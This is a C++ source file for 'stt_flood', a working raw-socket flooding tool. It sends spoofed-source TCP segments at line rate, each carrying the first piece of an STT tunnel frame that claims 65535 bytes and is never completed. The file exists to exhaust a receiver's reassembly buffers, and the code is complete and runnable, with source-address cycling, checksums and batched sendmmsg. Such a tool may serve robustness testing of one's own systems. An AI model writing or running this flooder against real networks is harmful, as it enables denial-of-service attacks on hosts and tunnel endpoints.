// stt_flood: sends first segments of STT frames that never complete, as fast as it can.
//
//   stt_flood IFACE DST_MAC DST_IP SRC_BASE_IP NSOURCES SECONDS [FRAME_LEN]
//
// Every packet is a valid outer Ethernet/IPv4/TCP segment to port 7471 with
// correct checksums, carrying the first 1400 bytes (offset 0) of an STT frame
// that claims FRAME_LEN bytes (default 65535, the most a receiver must buffer
// for). The outer source address cycles through NSOURCES consecutive addresses
// from SRC_BASE_IP, and every packet has a new packet ID, so each one opens a
// new reassembly that no later segment completes. Sent with sendmmsg in
// batches on an AF_PACKET socket with PACKET_QDISC_BYPASS. Prints
// "sent=N seconds=S pps=R" at the end.

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <vector>

namespace {

constexpr std::size_t kPayload = 1400;
constexpr std::size_t kHdr = 14 + 20 + 20;
constexpr std::size_t kLen = kHdr + kPayload;
constexpr int kBatch = 64;

std::uint32_t sum16(const std::uint8_t* p, std::size_t n, std::uint32_t s = 0) {
  for (std::size_t i = 0; i + 1 < n; i += 2)
    s += (std::uint32_t{p[i]} << 8) | p[i + 1];
  if (n & 1) s += std::uint32_t{p[n - 1]} << 8;
  return s;
}
std::uint16_t fold(std::uint32_t s) {
  while (s >> 16)
    s = (s & 0xffff) + (s >> 16);
  return static_cast<std::uint16_t>(~s & 0xffff);
}
void put16(std::uint8_t* p, std::uint16_t v) {
  p[0] = static_cast<std::uint8_t>(v >> 8);
  p[1] = static_cast<std::uint8_t>(v);
}
void put32(std::uint8_t* p, std::uint32_t v) {
  put16(p, static_cast<std::uint16_t>(v >> 16));
  put16(p + 2, static_cast<std::uint16_t>(v));
}

bool parse_mac(const char* s, std::uint8_t* out) {
  unsigned b[6];
  if (std::sscanf(s, "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5]) != 6)
    return false;
  for (int i = 0; i < 6; ++i)
    out[i] = static_cast<std::uint8_t>(b[i]);
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 7) {
    std::fprintf(stderr,
                 "usage: stt_flood IFACE DST_MAC DST_IP SRC_BASE_IP NSOURCES SECONDS "
                 "[FRAME_LEN]\n");
    return 2;
  }
  std::uint8_t dst_mac[6];
  in_addr dst{}, base{};
  if (!parse_mac(argv[2], dst_mac) || inet_pton(AF_INET, argv[3], &dst) != 1 ||
      inet_pton(AF_INET, argv[4], &base) != 1) {
    std::fprintf(stderr, "stt_flood: bad MAC or address\n");
    return 2;
  }
  const std::uint32_t nsrc = static_cast<std::uint32_t>(std::max(1, std::atoi(argv[5])));
  const double seconds = std::atof(argv[6]);
  const std::uint32_t frame_len = argc > 7 ? static_cast<std::uint32_t>(std::atoi(argv[7])) : 65535;
  if (frame_len <= kPayload || frame_len > 65535) {
    std::fprintf(stderr, "stt_flood: FRAME_LEN must be in (%zu, 65535]\n", kPayload);
    return 2;
  }

  const int fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0) {
    std::perror("socket");
    return 1;
  }
  const int one = 1;
  setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
  const int sndbuf = 16 << 20;
  setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);
  sockaddr_ll sll{};
  sll.sll_family = AF_PACKET;
  sll.sll_ifindex = static_cast<int>(if_nametoindex(argv[1]));
  sll.sll_halen = 6;
  std::memcpy(sll.sll_addr, dst_mac, 6);
  if (sll.sll_ifindex == 0 || bind(fd, reinterpret_cast<sockaddr*>(&sll), sizeof sll) < 0) {
    std::perror("bind");
    return 1;
  }

  // A template; per packet only the source address, packet ID and checksums change.
  std::array<std::uint8_t, kLen> tmpl{};
  std::uint8_t* e = tmpl.data();
  std::memcpy(e, dst_mac, 6);
  const std::uint8_t src_mac[6] = {0x02, 0xf1, 0x00, 0x00, 0x00, 0x01};
  std::memcpy(e + 6, src_mac, 6);
  put16(e + 12, 0x0800);
  std::uint8_t* ip = e + 14;
  ip[0] = 0x45;
  put16(ip + 2, static_cast<std::uint16_t>(20 + 20 + kPayload));
  put16(ip + 6, 0x4000);
  ip[8] = 64;
  ip[9] = 6;
  std::memcpy(ip + 16, &dst, 4);
  std::uint8_t* tcp = ip + 20;
  put16(tcp + 0, 50000);
  put16(tcp + 2, 7471);
  put32(tcp + 4, frame_len << 16);  // offset 0 of a frame that claims frame_len bytes
  tcp[12] = 5 << 4;
  tcp[13] = 0x10;                   // ACK
  std::uint8_t* pl = tcp + 20;
  for (std::size_t i = 0; i < kPayload; ++i)
    pl[i] = static_cast<std::uint8_t>(i);
  pl[0] = 0;                        // STT version 0; the header is plausible
  const std::uint32_t payload_sum = sum16(pl, kPayload);

  std::vector<std::array<std::uint8_t, kLen>> bufs(kBatch, tmpl);
  std::vector<iovec> iov(kBatch);
  std::vector<mmsghdr> msgs(kBatch);
  for (int i = 0; i < kBatch; ++i) {
    iov[i] = {bufs[i].data(), kLen};
    msgs[i] = {};
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
  }

  const std::uint32_t base_h = ntohl(base.s_addr);
  std::uint32_t id = 0x10000000;
  std::uint64_t sent = 0;
  const auto t0 = std::chrono::steady_clock::now();
  const auto end = t0 + std::chrono::duration<double>(seconds);
  while (std::chrono::steady_clock::now() < end) {
    for (int i = 0; i < kBatch; ++i) {
      std::uint8_t* p = bufs[i].data() + 14;
      const std::uint32_t src = htonl(base_h + (id % nsrc));
      std::memcpy(p + 12, &src, 4);
      put16(p + 4, static_cast<std::uint16_t>(id));
      put16(p + 10, 0);
      put16(p + 10, fold(sum16(p, 20)));
      std::uint8_t* t = p + 20;
      put32(t + 8, id);  // packet ID: a new reassembly per packet
      put16(t + 16, 0);
      std::uint32_t s = sum16(p + 12, 8) + 6 + 20 + kPayload;  // pseudo-header
      s = sum16(t, 20, s) + payload_sum;
      put16(t + 16, fold(s));
      ++id;
    }
    const int n = sendmmsg(fd, msgs.data(), kBatch, 0);
    if (n > 0) sent += static_cast<std::uint64_t>(n);
  }
  const double secs =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  std::printf("sent=%llu seconds=%.2f pps=%.0f\n", static_cast<unsigned long long>(sent), secs,
              static_cast<double>(sent) / secs);
  return 0;
}
